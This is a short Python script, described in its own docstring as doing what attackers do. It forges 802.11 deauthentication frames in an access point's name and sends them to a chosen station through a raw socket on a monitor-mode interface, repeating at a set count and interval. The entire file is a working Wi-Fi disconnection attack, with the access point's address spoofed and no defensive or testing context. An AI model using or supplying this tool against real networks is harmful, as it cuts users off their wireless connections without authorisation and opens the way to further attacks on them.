"""Sends deauthentication frames in the name of an access point, from a radio in monitor mode, as attackers do.

deauthenticate.py INTERFACE ACCESS_POINT STATION NUMBER INTERVAL_MS
"""

import socket
import struct
import sys
import time

interface, access_point, station, number, interval = sys.argv[1:]
sender, receiver = (bytes.fromhex(address.replace(":", "")) for address in (access_point, station))
# Radiotap without fields: the kernel chooses rate and power.
radiotap = struct.pack("<BxHI", 0, 8, 0)
deauthentication, reason = 0xC0, 7
frame = struct.pack("<HH", deauthentication, 0) + receiver + sender + sender + struct.pack("<HH", 0, reason)
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
    raw.bind((interface, 0))
    for _ in range(int(number)):
        raw.send(radiotap + frame)
        time.sleep(float(interval) / 1e3)
